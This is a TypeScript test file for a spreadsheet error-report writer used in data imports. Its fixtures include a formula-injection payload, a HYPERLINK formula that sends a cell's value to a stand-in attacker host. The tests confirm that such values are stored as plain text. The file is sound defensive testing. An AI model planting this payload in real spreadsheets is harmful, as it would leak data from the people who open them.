import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, open, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { writeErrorReportXlsx } from './error-report.ts';
import type { ImportRowError } from './error-report.ts';
import { inspectZip } from './zip-inspect.ts';

let dir = '';
before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'mzhub-report-'));
});
after(async () => {
  await rm(dir, { recursive: true, force: true });
});

const errors: ImportRowError[] = [
  {
    rowNumber: 2,
    field: 'id_number',
    name: '身份证号',
    value: '110105194912310021',
    code: 'row.citizen_id',
    reason: '身份证号码校验码错误，请核对号码是否录入有误',
  },
  {
    rowNumber: 3,
    field: 'name',
    name: '姓名',
    value: '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    code: 'row.too_long',
    reason: '长度 40 超过上限 20',
  },
  { rowNumber: 4, field: 'amount', name: '金额', value: '-1+2', code: 'row.scale', reason: '小数位数 3 超过上限 2' },
  { rowNumber: 5, field: 'phone', name: '电话', value: '@SUM(1)', code: 'row.phone', reason: '不是有效的电话号码' },
  { rowNumber: 6, field: 'note', name: '备注', value: '+86 10', code: 'row.pattern', reason: '格式不符' },
];

async function* slowly<T>(items: T[]): AsyncGenerator<T> {
  for (const item of items) {
    await new Promise((resolve) => setImmediate(resolve));
    yield item;
  }
}

/** The raw XML of one part of an XLSX, to see what a spreadsheet will see. */
async function partXml(path: string, part: string): Promise<string> {
  const zip = await inspectZip(path, { maxTotalUncompressed: 1e9, maxRatio: 1000, maxEntries: 100 });
  assert.ok(zip.ok);
  const entry = zip.entries.find((e) => e.name === part)!;
  const fh = await open(path, 'r');
  try {
    const header = Buffer.alloc(30);
    await fh.read(header, 0, 30, entry.localHeaderOffset);
    const start = entry.localHeaderOffset + 30 + header.readUInt16LE(26) + header.readUInt16LE(28);
    const data = Buffer.alloc(entry.compressedSize);
    await fh.read(data, 0, data.length, start);
    return (entry.method === 8 ? inflateRawSync(data) : data).toString('utf8');
  } finally {
    await fh.close();
  }
}

describe('import error report', () => {
  test('[COL-02] writes a title block and one row per error, and reads back with exceljs', async () => {
    const path = join(dir, 'report.xlsx');
    const result = await writeErrorReportXlsx(slowly(errors), path, {
      resourceName: '城乡低保对象名册',
      fileName: '2024年5月低保.csv',
      totalRows: 120,
      errorCount: errors.length,
    });
    assert.deepEqual(result, { written: 5, omitted: 0 });

    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(path);
    const sheet = book.getWorksheet('错误报告')!;
    assert.equal(sheet.getCell('A1').value, '数据导入错误报告');
    const meta = [2, 3, 4, 5].map((r) => [sheet.getCell(r, 1).value, sheet.getCell(r, 2).value]);
    assert.deepEqual(meta, [
      ['资源名称', '城乡低保对象名册'],
      ['文件名', '2024年5月低保.csv'],
      ['总行数', 120],
      ['错误数', 5],
    ]);
    assert.deepEqual((sheet.getRow(7).values as unknown[]).slice(1), [
      '行号',
      '信息项',
      '英文标识',
      '原值',
      '错误原因',
      '错误代码',
    ]);
    assert.deepEqual((sheet.getRow(8).values as unknown[]).slice(1), [
      2,
      '身份证号',
      'id_number',
      '110105194912310021',
      '身份证号码校验码错误，请核对号码是否录入有误',
      'row.citizen_id',
    ]);
    assert.equal(sheet.rowCount, 12);
  });

  test('[COL-02] values starting with = + - @ are text cells, never formulas', async () => {
    const path = join(dir, 'injection.xlsx');
    await writeErrorReportXlsx(errors, path, {
      resourceName: '=1+1',
      fileName: 'x.csv',
      totalRows: 5,
      errorCount: 5,
    });
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(path);
    const sheet = book.getWorksheet(1)!;
    for (const [row, value] of [
      [9, errors[1]!.value],
      [10, '-1+2'],
      [11, '@SUM(1)'],
      [12, '+86 10'],
    ] as const) {
      const cell = sheet.getCell(row, 4);
      assert.equal(cell.type, ExcelJS.ValueType.String, value);
      assert.equal(cell.value, value);
      assert.equal(cell.numFmt, '@', 'Text format keeps it text when edited');
    }
    assert.equal(sheet.getCell('B2').type, ExcelJS.ValueType.String);
    const xml = await partXml(path, 'xl/worksheets/sheet1.xml');
    assert.ok(!/<f[ >]/.test(xml), 'no formula element in the sheet');
    assert.ok(xml.includes('=HYPERLINK'));
  });

  test('[COL-02] writes to a stream; notes errors that were counted but not listed', async () => {
    const chunks: Buffer[] = [];
    const sink = new PassThrough();
    sink.on('data', (c: Buffer) => chunks.push(c));
    const long = { ...errors[0]!, value: '长'.repeat(5000) };
    await writeErrorReportXlsx([long], sink, {
      resourceName: '名册',
      fileName: 'a.csv',
      totalRows: 10_000,
      errorCount: 2500,
    });
    const path = join(dir, 'from-stream.xlsx');
    await writeFile(path, Buffer.concat(chunks));
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(path);
    const sheet = book.getWorksheet(1)!;
    assert.equal(sheet.getCell('D8').value, `${'长'.repeat(1000)}…（共 5000 字）`);
    assert.equal(sheet.getCell('A10').value, '共 2500 处错误，本报告列出前 1 处；修改后重新导入可看到其余错误');
    assert.ok((await readFile(path)).length > 0);
  });
});
